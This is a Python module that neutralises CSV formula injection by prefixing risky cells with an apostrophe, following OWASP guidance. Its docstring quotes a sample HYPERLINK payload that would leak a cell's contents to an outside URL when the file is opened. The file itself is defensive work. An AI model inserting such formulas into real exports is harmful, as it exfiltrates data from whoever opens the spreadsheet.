"""CSV that a spreadsheet opens as text: cells that would run as formulas are neutralised.

A question typed as ``=HYPERLINK("http://…/?leak="&A3,"Click")`` or ``@SUM(…)`` would run in
Excel or LibreOffice when the gap list is opened. As OWASP's CSV-injection guidance advises,
a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
apostrophe, which spreadsheets show as the text it was typed as.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet keeps it: text that would start a formula is prefixed
    with an apostrophe; numbers (negative ones too) and everything else pass unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """Rows as CSV text, every cell made safe."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()


def frame_csv(table: Any) -> str:
    """A pandas DataFrame (columns, then its rows; no index) as safe CSV text."""
    return csv_text([list(table.columns), *table.itertuples(index=False, name=None)])
